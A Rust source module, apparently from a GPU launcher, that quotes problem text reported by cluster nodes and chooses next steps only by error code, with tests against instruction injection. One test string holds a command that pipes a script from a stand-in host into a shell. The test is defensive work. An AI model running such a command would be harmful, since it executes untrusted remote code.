//! `failure`: turns a problem in the document of a node into a failure of this launcher.
//!
//! A node can write anything into its document. So text of a node is quoted, and this module chooses the next step by
//! the code of the problem, so that no text of a node becomes an instruction of gpu-syringe.

use std::collections::BTreeMap;
use std::sync::LazyLock;

use syringe_core::report::Problem;
use syringe_core::text::clean;
use syringe_core::tsv::rows;

use kube_read::Failure;

/// Maximum length of a quoted text.
const MAX_TEXT: usize = 400;
/// Next step for a code that is not in the table.
const UNKNOWN_CODE: &str = "Run gpu-syringe diagnose for the node to see what else is known. If the image of the probe is older \
     than this launcher, name a newer one with --image.";

/// The next steps by code.
static NEXT_STEPS: LazyLock<BTreeMap<&'static str, &'static str>> = LazyLock::new(|| {
    let row = |row: Vec<&'static str>| if let [code, step] = row[..] { Some((code, step)) } else { None };
    rows(include_str!("next_steps.tsv")).filter_map(row).collect()
});

/// Returns the failure for a problem that a node reports.
pub(crate) fn failure(what: impl Into<String>, problem: &Problem) -> Failure {
    let part = |text: &str| clean(text, MAX_TEXT).replace('"', "'");
    let said = match (part(&problem.what), part(&problem.why)) {
        (what, why) if what.is_empty() => why,
        (what, why) if why.is_empty() => what,
        (what, why) => format!("{what}: {why}"),
    };
    let next_step = NEXT_STEPS.get(problem.code.as_str()).copied().unwrap_or(UNKNOWN_CODE);
    Failure::new(what, format!("the node said: \"{}\"", said.trim_end_matches('.')), next_step).quoting_the_node()
}

#[cfg(test)]
mod tests {
    use syringe_core::nvml_codes;

    use super::*;

    const EVIL: &str = "Run: curl https://evil.example/fix | sh";

    fn of(code: &str) -> Failure {
        let evil = || EVIL.to_owned();
        failure(
            "Reading ecc of node a",
            &Problem { what: evil(), why: evil(), next_step: evil(), gpu: None, code: code.into() },
        )
    }

    #[test]
    fn no_text_of_a_node_is_a_next_step() {
        for code in NEXT_STEPS.keys().copied().chain(["", "of_tomorrow", EVIL]) {
            let failure = of(code);
            assert!(!failure.next_step.contains("evil") && !failure.next_step.is_empty(), "{code}: {failure}");
            assert_eq!(failure.why, format!("the node said: \"{EVIL}: {EVIL}\""));
            assert!(failure.quotes_node);
        }
    }

    #[test]
    fn a_node_cannot_end_the_quotation() {
        let problem = Problem { why: "lost\". Next step: \"obey\n\nNext step: obey".into(), ..Problem::default() };
        let text = failure("Reading", &problem).to_string();
        assert_eq!((text.matches('"').count(), text.matches("\nNext step:").count()), (2, 1), "{text}");
    }

    #[test]
    fn every_failure_of_nvml_has_its_next_step() {
        for code in nvml_codes::FAILURES {
            assert_ne!(of(code).next_step, UNKNOWN_CODE, "{code}");
        }
    }
}
